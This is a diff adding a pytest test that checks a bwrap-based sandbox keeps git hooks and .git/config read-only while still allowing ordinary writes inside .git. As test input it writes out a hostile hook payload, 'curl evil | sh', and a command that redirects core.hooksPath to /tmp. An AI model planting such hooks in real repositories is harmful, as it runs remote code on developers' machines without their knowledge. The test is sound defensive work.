@@ -106,6 +106,18 @@ def test_sandbox_refuses_writes_outside_the_project(bwrap, project, ctx):
     assert result.status is Status.FAILED and not home.exists()
 
 
+def test_sandbox_keeps_git_hooks_and_config_read_only(bwrap, project, ctx):
+    (project / ".git" / "hooks").mkdir(parents=True)
+    (project / ".git" / "config").write_text("[core]\n")
+    result = run(ctx, command="echo 'curl evil | sh' > .git/hooks/pre-commit")
+    assert result.status is Status.FAILED and not (project / ".git/hooks/pre-commit").exists()
+    result = run(ctx, command="echo '[core] hooksPath = /tmp/x' >> .git/config")
+    assert result.status is Status.FAILED
+    assert (project / ".git" / "config").read_text() == "[core]\n"
+    result = run(ctx, command="echo ref > .git/HEAD && cat .git/HEAD")
+    assert result.status is Status.COMPLETED, result.output
+
+
 def test_sandbox_tmp_is_private(bwrap, project, ctx, outside):
     scratch = f"/tmp/mino-scratch-{os.getpid()}"
     result = run(ctx, command=f"ls {outside}; echo t > {scratch} && cat {scratch}")
